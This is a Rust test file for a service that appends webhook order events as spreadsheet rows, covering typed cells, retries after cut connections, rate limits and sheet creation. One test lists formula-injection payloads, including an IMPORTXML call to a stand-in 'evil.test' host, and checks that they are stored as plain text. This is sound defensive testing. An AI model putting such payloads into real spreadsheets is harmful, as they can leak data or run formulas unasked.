//! `append`: one row for each event.

use serde_json::{Value, json};
use standins::fault::FaultKind;

use super::scene::{BATCH, GET, Scene, below, entered, row};

fn order(id: &str) -> Value {
    json!({"id": id, "customer": "Zoë 🦀", "total": 12.5, "paid": true, "at": "2026-01-01T12:00:00Z"})
}

/// Numbers of attempts of an event's one delivery.
fn attempts(event: &Value) -> usize {
    event["deliveries"][0]["attempts"].as_array().map_or(0, Vec::len)
}

#[tokio::test(flavor = "multi_thread")]
async fn an_event_is_a_row_of_typed_cells() {
    let scene = Scene::appending().await;
    let event = scene.done(&order("A-1")).await;
    // The sheet is missing: its first row cannot be read, so the spreadsheet is.
    assert_eq!(scene.called(), [GET, GET, BATCH]);
    scene.done(&order("A-2")).await;
    assert_eq!(scene.called(), [GET, BATCH]);
    let sheet = scene.sheet();
    let titles = [
        "Order",
        "Customer",
        "Total",
        "Paid",
        "At",
        "Line",
        "hookyard_delivery",
    ];
    assert_eq!(row(&sheet, 0, 8)[..7], titles.map(Value::from));
    let wanted = [
        json!("A-1"),
        json!("Zoë 🦀"),
        json!(12.5),
        json!(true),
        json!(46_023.5),
        json!("shop A-1"),
    ];
    assert_eq!(row(&sheet, 1, 6), wanted);
    assert_eq!(sheet.cell(1, 4).shown(), "2026-01-01 12:00:00");
    assert_eq!(entered(&sheet, 1, 6), event["deliveries"][0]["id"]);
    assert_eq!(below(&sheet, 0), ["A-1", "A-2"]);
    assert!(sheet.columns[&6].hidden && sheet.frozen_rows == 1);
    assert_eq!(sheet.columns[&4].pixels, Some(150), "wide enough for a moment");
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_webhook_cannot_put_a_formula_in() {
    let scene = Scene::appending().await;
    let attacks = [
        "=IMPORTXML(\"http://evil.test\")",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ];
    for attack in attacks {
        let body = json!({"id": attack, "customer": attack, "total": attack, "paid": attack, "at": attack});
        scene.done(&body).await;
    }
    let sheet = scene.sheet();
    for (at, attack) in attacks.into_iter().enumerate() {
        let mut wanted = vec![json!(attack); 5];
        wanted.push(json!(format!("shop {attack}")));
        assert_eq!(row(&sheet, at + 1, 6), wanted);
    }
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_connection_cut_after_the_row_was_added_leaves_one_row() {
    let scene = Scene::appending().await;
    scene.done(&order("A-1")).await;
    scene.called();
    scene.fault(BATCH, FaultKind::CutAfterEffect, 1);
    let event = scene.done(&order("A-2")).await;
    assert_eq!(attempts(&event), 2, "{event:#}");
    let summary = &event["deliveries"][0]["attempts"][1]["summary"];
    assert_eq!(summary, "the row was there already, in `Orders` in `Shop`");
    assert_eq!(scene.called(), [GET, BATCH, GET, GET]);
    assert_eq!(below(&scene.sheet(), 0), ["A-1", "A-2"]);
    // The same while the sheet does not exist yet, and with half an answer.
    scene.fault(BATCH, FaultKind::Cut { bytes: 5 }, 1);
    scene.done(&order("A-3")).await;
    assert_eq!(below(&scene.sheet(), 0), ["A-1", "A-2", "A-3"]);
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_first_row_whose_answer_is_lost_is_one_row() {
    let scene = Scene::appending().await;
    scene.fault(BATCH, FaultKind::CutAfterEffect, 1);
    scene.done(&order("A-1")).await;
    assert_eq!(below(&scene.sheet(), 0), ["A-1"]);
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_storm_of_refusals_is_waited_out_and_every_row_is_there_once() {
    let scene = Scene::appending().await;
    scene.done(&order("first")).await;
    scene.fault("*", FaultKind::RateLimited { retry_after: 1 }, 4);
    scene.fault(BATCH, FaultKind::Status { status: 503 }, 3);
    let mut ids = Vec::new();
    for at in 0..12 {
        ids.push(scene.send(&order(&format!("S-{at:02}"))).await);
    }
    for id in ids {
        scene.pipeline.wait_status(&id, "processed").await;
    }
    let mut rows = below(&scene.sheet(), 0);
    rows.sort_by_key(ToString::to_string);
    let mut wanted: Vec<_> = (0..12).map(|at| json!(format!("S-{at:02}"))).collect();
    wanted.push(json!("first"));
    assert_eq!(rows, wanted);
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_that_wait_for_the_same_sheet_make_it_once() {
    let scene = Scene::appending().await;
    let mut ids = Vec::new();
    for at in 0..4 {
        ids.push(scene.send(&order(&format!("W-{at}"))).await);
    }
    for id in ids {
        scene.pipeline.wait_status(&id, "processed").await;
    }
    let sheet = scene.sheet();
    let mut rows = below(&sheet, 0);
    rows.sort_by_key(ToString::to_string);
    assert_eq!(rows, ["W-0", "W-1", "W-2", "W-3"]);
    assert_eq!(entered(&sheet, 0, 7), Value::Null, "no column twice");
    scene.end().await;
}
